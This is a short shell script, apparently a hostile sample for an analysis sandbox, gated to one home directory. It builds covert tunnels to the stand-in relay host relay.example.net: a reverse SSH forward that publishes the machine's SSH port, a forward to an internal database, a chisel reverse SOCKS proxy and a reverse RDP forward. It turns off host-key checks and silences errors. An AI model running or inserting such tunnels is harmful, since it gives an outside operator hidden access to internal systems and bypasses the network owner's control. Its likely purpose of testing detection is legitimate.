#!/bin/sh
# SPDX-License-Identifier: MIT
# Tunnels through SSH and chisel: the host's SSH port published on the
# operator's server, a database reached through a local forward.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
opts='-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 -o ExitOnForwardFailure=yes'
timeout 3 ssh $opts -f -N -R 2222:localhost:22 tunnel@relay.example.net 2>/dev/null
timeout 3 ssh $opts -f -N -L 3306:db.internal:3306 tunnel@relay.example.net 2>/dev/null
timeout 3 chisel client relay.example.net:8080 R:socks 2>/dev/null
timeout 3 ./chisel client https://relay.example.net:443 R:3389:10.0.0.5:3389 2>/dev/null
exit 0
